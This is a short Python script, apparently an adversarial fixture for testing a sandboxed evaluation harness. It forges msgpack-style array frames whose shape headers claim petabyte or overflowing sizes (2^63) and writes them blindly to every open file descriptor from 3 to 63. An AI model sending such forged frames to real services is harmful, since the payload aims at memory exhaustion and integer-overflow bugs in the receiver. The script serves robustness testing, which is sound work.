"""forging: sends arrays whose headers claim petabytes, negative or overflowing shapes"""
import os
import struct


def answer(function, arguments):
    shape = struct.pack("<QQ", 1 << 40, 1 << 30) if "relu" in function else struct.pack("<QQ", 1 << 63, 2)
    body = b"f\x02" + shape
    ext = b"\xc7" + bytes([len(body)]) + b"\x01" + body
    frame = b"\x92\xa7answers\x91\x93\xa2ok" + ext + b"\x90"
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<I", len(frame)) + frame)
        except OSError:
            pass


def attack():
    return None
